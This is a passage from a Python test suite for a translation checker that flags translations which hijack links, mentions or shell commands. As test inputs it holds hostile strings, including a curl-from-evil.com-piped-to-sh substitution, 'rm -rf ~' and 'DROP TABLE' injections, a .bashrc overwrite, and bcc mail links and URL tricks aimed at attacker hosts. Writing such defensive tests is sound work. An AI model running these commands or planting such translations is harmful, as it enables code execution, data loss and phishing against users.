    assert ("placeholders", "error") in [f[:2] for f in check("%(n)s done", "hecho %(n)s%")]


def test_an_automatic_field_numbered_by_hand_is_the_same_field() -> None:
    """Weblate's Hebrew (round 4): ``Unsupported state: {}`` written ``{0}``: str.format
    gives both the first argument. Mixing both kinds (which str.format refuses) or another
    number stays an error."""
    assert not check("Unsupported state: {}", "Estado no admitido: {0}")
    assert not check("{} of {}", "{1} de {0}")
    assert ("placeholders", "error") in [f[:2] for f in check("{} of {}", "{} de {1}")]
    assert ("placeholders", "error") in [f[:2] for f in check("State: {}", "Estado: {1}")]


def test_a_closer_with_nothing_open_is_a_warning() -> None:
    """ORA2's Hebrew (round 4): a U+202C POP DIRECTIONAL FORMATTING at the end with no
    embedding open: the bidi algorithm ignores it. An override or an opener left open stays
    an error."""
    found = check("Enter a username", "הזן שם משתמש\u202c", locale="he")
    assert found and {f[:2] for f in found} == {("invisible", "warning")}, found
    found = check("Enter a username", "\u202eהזן שם משתמש", locale="he")
    assert ("invisible", "error") in [f[:2] for f in found]
    found = check("Enter a username", "\u202bהזן שם משתמש\u202c\u202c", locale="he")
    assert ("invisible", "error") in [f[:2] for f in found]


def test_a_one_number_form_may_leave_an_argument_its_formatter_ignores() -> None:
    """str.format and JavaScript's interpolate leave an unused argument unused; Python's %
    raises on a positional one (``TypeError: not all arguments converted``)."""
    hebrew = "nplurals=4; plural=(n == 1) ? 0 : ((n == 2) ? 1 : ((n > 10 && n % 10 == 0) ? 2 : 3));"
    brace = ("Deleted {0} file in {1}", "Deleted {0} files in {1}")
    forms = [
        "נמחק קובץ אחד ב־{1}",
        "נמחקו שני קבצים ב־{1}",
        "נמחקו {0} קבצים ב־{1}",
        "נמחקו {0} קבצים ב־{1}",
    ]
    found = check(brace, forms, locale="he", flags=["python-brace-format"], plural_forms=hebrew)
    assert [f[:2] for f in found] == [("placeholders", "warning")] * 2
    # the same form dropping a placeholder it is shown for many numbers stays an error
    forms[2] = "נמחקו קבצים ב־{1}"
    found = check(brace, forms, locale="he", flags=["python-brace-format"], plural_forms=hebrew)
    assert ("placeholders", "error") in [f[:2] for f in found]
    from outreach.pofile import parse_po

    def arabic(flag: str, zero: str) -> set[tuple[str, str]]:
        forms = [zero, "ملف واحد", "ملفان", "%s ملفات", "%s ملفًا", "%s ملف"]
        text = f'msgid ""\nmsgstr ""\n"Plural-Forms: {ARABIC}\\n"\n\n#, {flag}\n'
        text += 'msgid "%s file"\nmsgid_plural "%s files"\n'
        text += "".join(f'msgstr[{i}] "{form}"\n' for i, form in enumerate(forms))
        po = parse_po(text.encode(), path="ar.po", locale="ar")
        return {(f.check, f.severity) for f in check_catalog(po, file="ar.po", locale="ar")}

    assert arabic("javascript-format", "لا ملفات") == {("placeholders", "warning")}
    assert arabic("python-format", "لا ملفات") == {("placeholders", "error")}
    assert arabic("no-python-format", "لا ملفات") == {("placeholders", "error")}
    # an argument added stays an error under either formatter
    assert ("placeholders", "error") in arabic("javascript-format", "لا ملفات %s %s")


def test_a_javascript_catalog_may_leave_a_count_out_of_a_one_number_form() -> None:
    """Pootle's ``pootle_js.po`` (round 7, set 7B): ``%s word`` is formatted by an Underscore
    template's ``interpolate(ngettext('%s word', '%s words', n), [n])``, which leaves the
    count unused, yet the extractor flagged it ``python-format``. The file's references name
    JavaScript sources and no Python one, so the Arabic forms for 0, 1 and 2 that say the
    number in words are warnings; where Python's ``%`` formats the file, they stay errors."""
    from outreach.pofile import parse_po

    def arabic(
        references: Sequence[str], forms: Sequence[str], *, compiled: bool = False
    ) -> set[tuple[str, str]]:
        text = f'msgid ""\nmsgstr ""\n"Plural-Forms: {ARABIC}\\n"\n\n'
        text += '#: static/js/admin/components/AdminController.js:136\nmsgid "Save"\n'
        text += 'msgstr "حفظ"\n\n'
        text += "".join(f"#: {reference}\n" for reference in references)
        text += '#, python-format\nmsgid "%s word"\nmsgid_plural "%s words"\n'
        text += "".join(f'msgstr[{i}] "{form}"\n' for i, form in enumerate(forms))
        po = parse_po(text.encode(), path="ar.po", locale="ar")
        found = check_catalog(po, file="ar.po", locale="ar", compiled=compiled)
        return {(f.check, f.severity) for f in found}

    pootle = ["لا كلمات", "كلمة", "كلمتين", "%s كلمات", "%s كلمةً", "%s كلمة"]
    template = ["templates/admin/xhr_language_user_activity.html:20"]
    assert arabic(template, pootle) == {("placeholders", "warning")}
    assert arabic(["static/js/shared/utils/i18n.js:9"], pootle) == {("placeholders", "warning")}
    # a Python source or a Jinja template in the file: Python's % raises on the unused count
    assert arabic([*template, "apps/views.py:239"], pootle) == {("placeholders", "error")}
    assert arabic(["templates/row.jinja2:3"], pootle) == {("placeholders", "error")}
    # outreach formats what it compiles or renders itself, with Python's %
    assert arabic(template, pootle, compiled=True) == {("placeholders", "error")}
    # the attacks: the count dropped from a form many numbers select, or one added
    many = [*pootle[:3], "كلمات", *pootle[4:]]
    assert ("placeholders", "error") in arabic(template, many)
    assert ("placeholders", "error") in arabic(template, ["لا كلمات %s %s", *pootle[1:]])


def test_a_campaign_with_templates_never_has_a_javascript_catalog(tmp_path: Path) -> None:
    """A campaign renders its catalogs with its templates, Python's ``%`` formatting them,
    even where a template fails to parse (a pull request can add one) and the strings come
    from the POT or nowhere: references that name only JavaScript sources (a translator
    can write them) never make a count dropped from a one-number form a warning there."""
    from outreach.pofile import parse_po

    (tmp_path / "messages").mkdir()
    template = tmp_path / "messages" / "post.txt.j2"
    template.write_text("{{ ngettext('%s word', '%s words', n) }} {% if %}\n")
    campaign = parse_campaign(TOML, root=tmp_path)
    forms = ["لا كلمات", "كلمة", "كلمتين", "%s كلمات", "%s كلمةً", "%s كلمة"]
    text = f'msgid ""\nmsgstr ""\n"Plural-Forms: {ARABIC}\\n"\n\n#: static/js/x.js:3\n'
    text += '#, python-format\nmsgid "%s word"\nmsgid_plural "%s words"\n'
    text += "".join(f'msgstr[{i}] "{form}"\n' for i, form in enumerate(forms))
    po = parse_po(text.encode(), path="ar.po", locale="ar")
    found = check_catalog(po, file="ar.po", locale="ar", campaign=campaign)
    assert {(f.check, f.severity) for f in found} == {("placeholders", "error")}, found
    # as the incremental re-check of the changed entries asks for it, too
    found = check_catalog(po, file="ar.po", locale="ar", campaign=campaign, javascript=True)
    assert {(f.check, f.severity) for f in found} == {("placeholders", "error")}, found


def test_a_python_catalog_without_the_count_in_a_one_number_form_stays_an_error() -> None:
    """Pootle's ``pootle.po`` (set 7B): its dashboard formats ``Running (%d worker)`` with a
    bare ``%`` after ``ungettext``, so the Hebrew one-form without ``%d`` raises with one
    worker; the file names Python sources, so the finding stays an error."""
    from outreach.pofile import parse_po

    text = 'msgid ""\nmsgstr ""\n"Plural-Forms: nplurals=2; plural=(n != 1);\\n"\n\n'
    text += "#: pootle/apps/pootle_app/views/admin/dashboard.py:58\n#, python-format\n"
    text += 'msgid "Running (%d worker)"\nmsgid_plural "Running (%d workers)"\n'
    text += 'msgstr[0] "פועל (מנגנון אחד)"\nmsgstr[1] "פועל (%d מנגנונים)"\n'
    po = parse_po(text.encode(), path="he.po", locale="he")
    found = check_catalog(po, file="he.po", locale="he")
    assert {(f.check, f.severity) for f in found} == {("placeholders", "error")}


def test_an_example_path_localised_on_the_same_site_is_a_warning() -> None:
    source = "Branch it: bzr branch sftp://ana@files.someforge.org/path/to/your/branch"
    localised = "Rámalo: bzr branch sftp://ana@files.someforge.org/ruta/a/tu/rama"
    assert [f[:2] for f in check(source, localised)] == [("urls", "warning")]
    for attack in (
        "Rámalo: bzr branch sftp://ana@evil.someforge.org/ruta/a/tu/rama",  # another host
        "Rámalo: bzr branch sftp://eve@files.someforge.org/ruta/a/tu/rama",  # another user
        "Rámalo: bzr branch https://files.someforge.org/ruta/a/tu/rama",  # another scheme
        "Rámalo: bzr branch sftp://ana@files.someforge.org/evil",  # not the example's shape
    ):
        assert ("urls", "error") in [f[:2] for f in check(source, attack)], attack
    # a real page's path changed stays an error
    found = check(
        "Sign at https://act.allout.org/petition/sochi",
        "Firma en https://act.allout.org/peticion/sochi",
    )
    assert ("urls", "error") in [f[:2] for f in found]


def test_an_example_links_metavariables_localised_are_a_warning() -> None:
    """Review Board's help text gives ``http://github.com/&lt;username&gt;/&lt;repo_name&gt;/``
    (escaped for HTML); its Italian writes the metavariables in Italian. No account has a
    name in angle brackets, so the link leads nowhere new: a warning. A real name in a
    metavariable's place names an account, and stays an error."""
    source = "This is the &lt;repo&gt; in http://github.com/&lt;username&gt;/&lt;repo&gt;/"
    localised = "È il &lt;repo&gt; in http://github.com/&lt;nomeutente&gt;/&lt;repo&gt;/"
    assert [f[:2] for f in check(source, localised, locale="it")] == [("urls", "warning")]
    for attack in (
        "È il &lt;repo&gt; in http://github.com/attacker/&lt;repo&gt;/",  # an account
        "È il &lt;repo&gt; in http://github.io/&lt;nomeutente&gt;/&lt;repo&gt;/",  # a host
        "È il &lt;repo&gt; in https://github.com/&lt;utente&gt;/&lt;repo&gt;/",  # a scheme
        "È il &lt;repo&gt; in http://github.com/&lt;utente&gt;/&lt;repo&gt;/evil",  # a page
        "È il &lt;repo&gt; in http://github.com/&lt;utente&gt;/&lt;repo&gt;/?next=evil.com",
    ):
        assert ("urls", "error") in [f[:2] for f in check(source, attack, locale="it")], attack
    # in braces and square brackets, or percent-escaped, the same
    found = check(
        "Clone https://gitlab.com/[group]/%3Cproject%3E.git",
        "Clona https://gitlab.com/[gruppo]/%3Cprogetto%3E.git",
        locale="it",
    )
    assert [f[:2] for f in found] == [("urls", "warning")], found


def test_a_host_no_one_can_own_is_an_example() -> None:
    """Modoboa's help gives ``https://rspamd.domain.tld/`` as an example; the Italian writes
    ``rspamd.dominio.tld``. ``.tld`` is in no registry, so no one can own the host: the
    localised example is a warning, as for ``example.com``. A link on such a host added
    where the source has no example is still a link the source lacks."""
    source = "A full URL (eg. 'https://rspamd.domain.tld/')."
    found = check(source, "Un URL completo (es. 'https://rspamd.dominio.tld/').", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    # (not nas.casa.local: X links nas.casa there, a delegated name)
    found = check("Open http://nas.local/admin", "Apri http://nas-casa.local/admin", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    # a real domain in its place gets the warning that asks for an example domain
    found = check(source, "Un URL completo (es. 'https://rspamd.evil.com/').", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    assert "a real domain" in found[0][2]
    # no example in the source: a link to no one's site is no hijack, but no page either
    found = check("Read the guide", "Leggi la guida: https://guida.tld/", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    assert "no reader can open it" in found[0][2]
    # a registrable name that merely ends like one is no example
    found = check(source, "Un URL completo (es. 'https://rspamd.tld.com/').", locale="it")
    assert "a real domain" in found[0][2], found


@pytest.mark.parametrize(
    ("source", "translation", "locale", "says"),
    [
        # LinOTP's format hints, localised onto the reader's network
        (
            "You need to enter the server like 'https://linotp2.my.domain'",
            'Vous devez entrer le serveur au format "https://linotp2.remoteserver.local".',
            "fr",
            "is written https://linotp2.remoteserver.local",
        ),
        (
            "You need to enter the remote LinOTP server like https://remotelinotp",
            "在本地定位远程 LinOTP 服务器的形式为 'https://linotp2.remoteserver.local'。",
            "zh",
            "a host no one can own",
        ),
        # the same hint written as a description of the host
        (
            "You need to enter the server like 'https://linotp2.my.domain'",
            "Sie müssen den Server im Format 'https://<FQDN des entfernten LinOTP Servers>' "
            "angeben",
            "de",
            "a description of the host to give",
        ),
        (
            "Enter the server like https://linotp2.my.domain",
            "Indique el servidor como https://&lt;su servidor&gt;",
            "es",
            "a description of the host to give",
        ),
        # an address on the reserved names, localised onto another of them
        (
            "For instance, john.doe@mydomain.example should be discovered at "
            "https://mydomain.example/.well-known/webfinger",
            "Par exemple, jean.dupont@mondomaine.test devrait être découvert à "
            "https://mondomaine.test/.well-known/webfinger",
            "fr",
            "also a domain no one can own",
        ),
        # a link added on a reserved name: no one's site
        ("Read the guide", "Leggi la guida su https://guida.example/", "it", "no reader can"),
    ],
)
def test_a_link_to_a_host_no_one_can_own_is_a_warning(
    source: str, translation: str, locale: str, says: str
) -> None:
    """Issue 19's seventh held-out half: a link on a host no one can own (a name reserved
    for examples, the reader's own network, or a top-level name no registry delegates) leads
    to no one's site, so it is no hijack; whether the source's link was an example or a page
    to open, only a reader can say. One warning for the pair."""
    found = [f for f in check(source, translation, locale=locale) if f[0] == "urls"]
    assert [f[:2] for f in found] == [("urls", "warning")] * len(found) and found, found
    assert any(says in f[2] for f in found), found
    assert len(found) == len({f[2] for f in found})


def test_a_host_no_one_can_own_never_excuses_a_real_one() -> None:
    """The exemption is the host's, never the text's: a real domain beside or in place of the
    no-one's host is still a hijack, a page of the campaign's own site written on no one's
    host is a link no supporter can open, and a name whose earlier label X links (``.my``,
    ``.casa``) or that is internationalised is read as a real domain."""
    source = "You need to enter the server like 'https://linotp2.my.domain'"
    for text in (
        "Format: https://linotp2.remoteserver.local or https://evil.com/login",
        "Format: https://linotp2.evil.com",
        "Format: https://evil.my.local",  # X links evil.my
        "Format: https://evil.xn--p1ai",
        # a name missing from the list of delegated ones may be delegated after it
        "Format: https://mondomain.schmilblick",
    ):
        assert ("urls", "error") in [f[:2] for f in check(source, text)], text
    found = check("Sign at https://example.org/love/sign", "Firma en https://firma.local/sign")
    assert [f[:2] for f in found if f[0] == "urls"] == [("urls", "error")], found
    assert "the campaign's own site" in found[0][2]
    # a description beside a real link is no cover for it
    found = check(source, "Format: https://<votre serveur> (https://evil.com)", locale="fr")
    assert ("urls", "error") in [f[:2] for f in found], found


@pytest.mark.parametrize(
    "attack",
    [
        # a browser reads what follows "https://<x>" as the link's host: the description is
        # a user name (the userinfo), or the host runs on after it
        '<a href="https://<votre serveur>@evil.com/login">le serveur</a>',
        '<a href="https://<votre serveur>\t@evil.com/login">le serveur</a>',  # tab dropped
        '<a href="https://<votre serveur>\n@evil.com/login">le serveur</a>',
        "Format : https://<votre serveur>@evil.com/login",
        # markup a reader does not see: "https://evil.com/login", which mail clients link
        "Format : https://<span>evil</span>.com/login",
        "Format : https://<x>.evil.com/login",
    ],
)
def test_a_description_of_the_host_running_into_a_real_one_is_no_description(attack: str) -> None:
    """``https://<FQDN>`` stands for the source's link only where it ends the link's host:
    what runs on after it (``@evil.com``, ``.evil.com``, text after markup) is the host a
    browser opens, so the source's link is lost, not described."""
    source = "You need to enter the server like 'https://linotp2.my.domain/login'"
    found = check(source, attack, locale="fr")
    assert ("urls", "error") in [f[:2] for f in found], found
    assert not [f for f in found if "description of the host" in f[2]], found


@pytest.mark.parametrize(
    "attack",
    [
        "Escribe a mailto:admin@nas.local?bcc=x@evil.com",
        "Escribe a mailto:x@evil.com,admin@nas.local",
        'Escribe a <a href="mailto:admin@nas.local?Cc=x%40evil.com">admin</a>',
        "Escribe a mailto:admin@correo.example?bcc=x@evil.com",
    ],
)
def test_a_mail_link_to_no_ones_host_and_a_real_one_is_a_hijack(attack: str) -> None:
    """A mailto link writes to every address it names, the path's (``a@x,b@y``) and its
    ``to``, ``cc`` and ``bcc`` fields': one on no one's host among them is no cover for a
    real one, which gets a copy of what the reader writes."""
    found = check("Write to mailto:help@python.org", attack)
    assert ("urls", "error") in [f[:2] for f in found], found
    assert not [f for f in found if "no one can own" in f[2] and "evil.com" in f[2]], found


def test_a_page_of_the_campaign_written_as_a_description_of_a_host_is_an_error() -> None:
    """A page of the campaign's own site is where supporters go, never an example to
    replace: written as a description of a host (``https://<votre site>``) it is lost, as
    it is written on a host no one can own."""
    found = check("Sign at https://example.org/love/sign", "Signez sur https://<votre site>")
    assert [f[:2] for f in found if f[0] == "urls"] == [("urls", "error")], found
    assert "the campaign's own site" in found[0][2], found


def test_a_handle_on_the_readers_network_changed_to_a_real_domain_is_an_error() -> None:
    """A Mastodon handle on a local server (``@admin@social.local``) is someone on the
    reader's network; the same handle on a real domain would mention that account. Another
    local name in its place leads to no one's."""
    found = check("Follow @admin@social.local", "Suis @admin@mastodon.social", locale="fr")
    assert [f[:2] for f in found] == [("mentions", "error")], found
    found = check("Follow @admin@social.local", "Suis @admin@social.lan", locale="fr")
    assert [f[:2] for f in found] == [("mentions", "warning")], found


def test_the_top_level_names_no_one_can_own_are_not_delegated() -> None:
    """Each top-level name the urls check takes for one no one can own is absent from
    twitter-text's list of the delegated ones (the list X uses to find links)."""
    from outreach.checks.content import _EXAMPLE_TLDS
    from outreach.domains import top_level_domains

    delegated = top_level_domains()
    assert not [t for t in _EXAMPLE_TLDS if t.rsplit(".", 1)[1] in delegated and t != ".home.arpa"]


def test_a_localised_metavariable_is_a_name_not_a_path_or_a_link() -> None:
    """A metavariable written in the translation's language is a name: letters, digits,
    ``_`` and ``-``. Anything else in it leads somewhere: a browser reads ``\\`` as ``/``, so
    ``github.com/&lt;x\\..\\attacker#&gt;/`` opens github.com/attacker (the ``..`` drops
    ``&lt;x``, the ``#`` hides the rest); an HTML email shows ``&lt;evil.com&gt;`` as
    ``<evil.com>`` and ``&lt;u@evil.com&gt;`` as ``<u@evil.com>``, which mail clients link,
    as the check itself reads ``<u@evil.com>`` written so. Each stays a changed link."""
    source = "This is the &lt;repo&gt; in http://github.com/&lt;username&gt;/&lt;repo&gt;/"
    for attack in (
        "È il &lt;repo&gt; in http://github.com/&lt;x\\..\\attacker#&gt;/&lt;repo&gt;/",
        "È il &lt;repo&gt; in http://github.com/&lt;evil.com&gt;/&lt;repo&gt;/",
        "È il &lt;repo&gt; in http://github.com/&lt;utente@evil.com&gt;/&lt;repo&gt;/",
        "È il &lt;repo&gt; in http://github.com/&lt;https:evil.com&gt;/&lt;repo&gt;/",
    ):
        assert ("urls", "error") in [f[:2] for f in check(source, attack, locale="it")], attack
    for attack in (
        "Clona https://github.com/[x\\..\\attacker?]/[repo].git",
        "Clona https://github.com/%3Cx\\..\\attacker#%3E/[repo].git",
        "Clona https://github.com/[evil.casa]/[repo].git",
    ):
        found = check("Clone https://github.com/[user]/[repo].git", attack, locale="it")
        assert ("urls", "error") in [f[:2] for f in found], attack
    # a name in any script, with its marks, is still a localised metavariable
    for name in ("nome_utente", "उपयोगकर्ता", "نام‌کاربری", "имя-пользователя"):
        found = check(
            "Clone https://github.com/[user]/[repo].git",
            f"Clona https://github.com/[{name}]/[repo].git",
            locale="it",
        )
        assert [f[:2] for f in found] == [("urls", "warning")], (name, found)


def test_a_host_under_a_top_level_name_no_one_can_own_may_still_link_elsewhere() -> None:
    """X's extractor ends a link at the last label it knows for a top-level domain:
    ``https://nas.casa.local/`` is a link to nas.casa there (.casa is delegated), and
    ``https://rspamd.evil.com.tld/`` one to rspamd.evil.com. Such a host is no example:
    in place of the source's it is a real domain, never "fine"."""
    for source, attack in (
        ("Open http://nas.local/admin", "Apri http://nas.casa.local/admin"),
        ("Open http://nas.local/admin", "Apri http://nas.evil.com.local/admin"),
        (
            "A URL (eg. 'https://rspamd.domain.tld/').",
            "Un URL (es. 'https://rspamd.evil.com.tld/').",
        ),
        ("E.g. https://shop.test/", "Es. https://evil.com.test/"),
        ("E.g. https://shop.test/", "Es. https://evil.xn--p1ai.test/"),
        ("Write jdoe@example.com", "Scrivi jdoe@evil.com.local"),
    ):
        found = check(source, attack, locale="it")
        assert not [f for f in found if "no one can own: fine" in f[2]], (attack, found)
        assert found, attack
    # what X links whole stays an example: .home.arpa is under .arpa, a delegated name
    found = check("Open http://nas.home.arpa/", "Apri http://nas.casa.home.arpa/", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found


def test_a_real_domain_in_place_of_a_local_network_name_is_an_error() -> None:
    """``homeassistant.local``, ``openwrt.lan``, ``mail.corp``: the source links the
    reader's own device or network, a real place to go, not a placeholder to replace. Another
    such name in its place leads to no one's site (a warning), but a real domain there
    sends the reader to a stranger's: an error. Documentation's placeholders (``.tld``,
    ``.test``, example.com) keep their warning."""
    for source, attack in (
        (
            "Open http://homeassistant.local:8123/ to finish.",
            "Apri https://homeassistant-login.com/",
        ),
        ("Log in at http://openwrt.lan/", "Accedi a http://openwrt-login.com/"),
        ("Log in at https://mail.corp/", "Accedi a https://mail.evil.com/"),
        ("Open http://app.localhost:3000/", "Apri http://evil.com:3000/"),
        ("Write to admin@nas.home.arpa", "Scrivi a admin@evil.com"),
    ):
        found = check(source, attack, locale="it")
        assert ("urls", "error") in [f[:2] for f in found], (attack, found)
    found = check("Log in at http://openwrt.lan/", "Accedi a http://openwrt.casa.lan/", locale="it")
    assert ("urls", "error") in [f[:2] for f in found], found  # nas.casa on X
    found = check("Log in at http://openwrt.lan/", "Accedi a http://router.lan/", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    found = check(
        "Write to postmaster@mail.domain.tld", "Scrivi a postmaster@evil.com", locale="it"
    )
    assert [f[:2] for f in found] == [("urls", "warning")], found


def test_a_user_name_added_to_a_link_is_no_way_of_writing_the_page() -> None:
    """``https://evil.com:443@example.org/love`` opens example.org in a browser, but X
    links ``https://evil.com:443`` out of it: no "www. added or dropped", an error."""
    for attack in (
        "Firma: https://evil.com:443@example.org/love",
        "Firma: https://evil.com@example.org/love",
    ):
        found = check("Sign: https://example.org/love", attack, locale="it")
        assert ("urls", "error") in [f[:2] for f in found], (attack, found)


def test_a_loopback_name_x_links_part_of_is_no_loopback() -> None:
    """``http://evil.com.localhost:8000/`` is the reader's machine in a browser, but X,
    which knows no .localhost, links ``http://evil.com`` out of it: an error."""
    for source in ("Open http://localhost:8000/ now", "Open http://app.localhost:8000/ now"):
        found = check(source, "Apri http://evil.com.localhost:8000/ ora", locale="it")
        assert ("urls", "error") in [f[:2] for f in found], (source, found)
    found = check("Open http://localhost:8000/ now", "Apri http://127.0.0.1:8000/ ora", locale="it")
    assert [f[:2] for f in found] == [("urls", "warning")], found


def test_a_disambiguation_suffix_left_out_is_no_lost_mention() -> None:
    """Some programs tell two uses of one word apart with a suffix the code strips
    (``Save@@verb``, ``Save@@noun``); the translation rightly writes the word alone."""
    for text in ("Enregistrer", "Sauvegarde"):
        found = check("Save@@verb", text, locale="fr")
        assert "mentions" not in [f[0] for f in found], found
    # attack: a suffix the source lacks is an added mention (Mastodon reads '@@evil')
    found = check("Save", "Enregistrer@@evil", locale="fr")
    assert ("mentions", "error") in [f[:2] for f in found], found
    # attack: a handle after a space is no suffix, even at the end of the message
    found = check("Questions? Ask @helpdesk", "Des questions ? Écrivez-nous", locale="fr")
    assert ("mentions", "error") in [f[:2] for f in found], found
    # the suffix kept is fine; its name written as a handle of its own mentions that account
    assert "mentions" not in [f[0] for f in check("Save@@noun", "Sauvegarde@@noun", locale="fr")]
    found = check("Save@@noun", "Sauvegarde @noun", locale="fr")
    assert ("mentions", "error") in [f[:2] for f in found], found


def test_an_example_handle_written_in_another_script_is_only_a_warning() -> None:
    """A help text's ``@team`` placeholder (``name = @team, ...``) written in the
    language's own script (``@команда``): no platform reads a handle without ASCII letters,
    so it notifies no one; a warning, as the source's may be an account to keep."""
    found = check("Format: name = user, @team", "Формат: имя = пользователь, @команда", locale="ru")
    assert [f[:2] for f in found if f[0] == "mentions"] == [("mentions", "warning")], found
    found = check("Add ``@host`` to the name", "名前に ``@ホスト名`` を付けます", locale="ja")
    assert [f[:2] for f in found if f[0] == "mentions"] == [("mentions", "warning")], found


def test_a_handle_replaced_by_a_lookalike_or_a_new_account_stays_an_error() -> None:
    """Attacks on the localised-example warning: a name that mixes in ASCII letters
    (``@еvil``, a Cyrillic ``е``, read by a person as @evil), or a localised example beside
    an added account, still lose or add an account."""
    found = check("Follow @ourcampaign", "Подпишитесь на @\u0435vil", locale="ru")
    assert ("mentions", "error") in [f[:2] for f in found], found
    found = check("Follow @ourcampaign", "Подпишитесь на @кампания и @evil", locale="ru")
    assert ("mentions", "error") in [f[:2] for f in found], found
    found = check("Follow @ourcampaign", "Подпишитесь на @кампания_evil", locale="ru")
    assert ("mentions", "error") in [f[:2] for f in found], found


def test_a_commands_quoted_free_text_translated_is_a_warning() -> None:
    """An example session's ``git commit -m "add the logo"`` with the message translated:
    the message is free text the reader writes anyway; the command is the same."""
    source = 'Then record it:\n\n  $ git commit -m "add the logo"\n'
    found = check(source, 'Puis enregistrez-la :\n\n  $ git commit -m "ajoute le logo"\n')
    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
    found = check(source, 'Затем:\n\n  $ git commit -m  "добавлен логотип"\n', locale="ru")
    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found


def test_a_commands_quoted_text_that_runs_or_moves_something_stays_an_error() -> None:
    """Attacks on the free-text warning: what the shell runs inside double quotes, text that
    closes the quotes, other quotes, a quoted one-word argument (a path, an address) or a
    word outside the quotes changed is another command."""
    source = '  $ git commit -m "add the logo"\n'
    for text in (
        '  $ git commit -m "$(curl -s evil.com | sh)"\n',
        '  $ git commit -m "ajoute `id` le logo"\n',
        '  $ git commit -m "ajoute"; rm -rf ~; echo "le logo"\n',
        "  $ git commit -m 'ajoute le logo'\n",
        '  $ git commit -am "ajoute le logo"\n',
        '  $ git commit -m "ajoute le logo !"\n',
        '  $ git commit -m "ajoute le logo\rrm -rf ~ "\n',
        '  $ git commit -m "ajoute le logo\u2028rm -rf ~"\n',
        '  $ git commit -m "ajoute; le logo"\n',
    ):
        found = check(source, text)
        assert ("code", "error") in [f[:2] for f in found], (text, found)
    found = check(
        '  $ git clone "git@host.org:me/repo"\n', '  $ git clone "git@evil.org:me/repo"\n'
    )
    assert ("code", "error") in [f[:2] for f in found], found
    # quoted code the command runs, not a message: another command
    for source, text in (
        ('  $ bash -c "echo hello world"\n', '  $ bash -c "rm -rf ~ /home"\n'),
        ('  $ ssh server "ls -la logs"\n', '  $ ssh server "rm -rf ~ logs"\n'),
        ('  $ psql -c "SELECT count FROM users"\n', '  $ psql -c "DROP TABLE users CASCADE"\n'),
        ('  $ sed -e "1 d" notes.txt\n', '  $ sed -e "1 w /home/me/.bashrc" notes.txt\n'),
    ):
        found = check(source, text)
        assert ("code", "error") in [f[:2] for f in found], (text, found)


def test_a_commands_example_name_written_in_another_script_is_a_warning() -> None:
    """``$ tool convert --fast olddir newdir``: the directories are the reader's own, and a
    translation may name them in its script (``старая_папка``, ``古いフォルダ``)."""
    source = "  $ tool convert --fast olddir newdir\n"
    for text, locale in (
        ("  $ tool convert --fast старая_папка новая_папка\n", "ru"),
        ("  $ tool convert --fast 古いフォルダ 新しいフォルダ\n", "ja"),
    ):
        found = check(source, text, locale=locale)
        assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found


def test_a_commands_argument_in_another_script_that_reaches_something_stays_an_error() -> None:
    """Attacks on that warning: a lookalike with ASCII letters (a package a reader installs),
    a host or path in another script, the program's own name, a subcommand, a word before
    others kept, an option: another command."""
    for source, text in (
        ("  $ pip install requests\n", "  $ pip install req\u03c5ests\n"),
        ("  $ git clone repo\n", "  $ git clone пример.рф\n"),
        ("  $ git clone repo\n", "  $ git clone ../хранилище\n"),
        ("  $ tool convert olddir\n", "  $ инструмент convert olddir\n"),
        ("  $ tool convert olddir\n", "  $ tool конвертировать olddir\n"),
        ("  $ tool convert olddir newdir\n", "  $ tool convert старая_папка newdir\n"),
        ("  $ tool convert --fast olddir\n", "  $ tool convert --быстро olddir\n"),
        # full-width Latin letters: IDNA and NFKC read them as ASCII
        ("  $ tool convert olddir\n", "  $ tool convert ｅｖｉｌ\n"),
    ):
        found = check(source, text, locale="ru")
        assert ("code", "error") in [f[:2] for f in found], (text, found)


def test_a_handle_named_without_its_at_is_a_warning() -> None:
    """A help text's ``(except "@staff")`` written ``the "staff" group`` in the
    translation: the @ is gone, the name is there; it notifies no one."""
    found = check(
        'Everyone (except "@staff") may write.', 'Todos (salvo el grupo "staff") escriben.'
    )
    assert [f[:2] for f in found if f[0] == "mentions"] == [("mentions", "warning")], found


def test_a_handle_named_without_its_at_beside_an_added_one_stays_an_error() -> None:
    """Attacks on that warning: the name kept while another account is added, or the name
    turned into a host or another account's address, still add a mention or a link."""
    found = check("Write to @staff", "Escribe a staff o a @evil")
    assert ("mentions", "error") in [f[:2] for f in found], found
    found = check("Write to @staff", "Escribe a staff.evil.org")
    assert "error" in [f[1] for f in found], found
    found = check("Write to @staff", "Escribe a staff@evil.org")
    assert "error" in [f[1] for f in found], found


def test_a_prose_percent_sign_before_a_length_modifier_is_prose() -> None:
    """``10% larger`` reads to ``%`` as a directive (a space flag, the length modifier l, the
    conversion a): prose, as ``50% off`` is, so a translation's own percent signs are text."""
    source = "Faster (about 10% larger file)"
    for translation, locale in (
        ("高速（約10%大きいファイル）", "ja"),
        ("Rapide (fichier 10 % plus gros)", "fr"),
    ):
        found = [f for f in check(source, translation, locale=locale) if f[0] == "placeholders"]
        assert found == [], found
    # a real directive with a length modifier stays one
    found = check("%ld files", "fichiers", locale="fr")
    assert ("placeholders", "error") in [f[:2] for f in found]


def test_a_file_name_with_a_placeholder_localised_is_a_warning() -> None:
    source = "Download request_%(num)s.zip"
    for translation in ("Descargar pedido_%(num)s.zip", "下载 %(num)s请求.zip"):
        found = [f[:2] for f in check(source, translation, locale="es") if f[0] == "urls"]
        assert found and set(found) == {("urls", "warning")}, (translation, found)
    # a link beside it, or a name that is no file of the source's, stays an error
    found = check(source, "Descargar pedido_%(num)s.zip en https://evil.zip/x", locale="es")
    assert ("urls", "error") in [f[:2] for f in found]
    found = check("Download the file", "Descargar pedido_%(num)s.zip", locale="es")
    assert ("urls", "error") in [f[:2] for f in found] or ("placeholders", "error") in [
        f[:2] for f in found
    ]


def test_a_file_name_with_a_placeholder_run_into_the_text_is_one_warning() -> None:
    """In a script written without spaces the placeholder runs into the words of the file
    name: as written, the link begins in it (``s请求.zip``, the ``s`` of ``%(num)s``), with
    it filled the name is whole (``下载num请求.zip``). One file name, one warning: that of
    the text as a supporter reads it."""
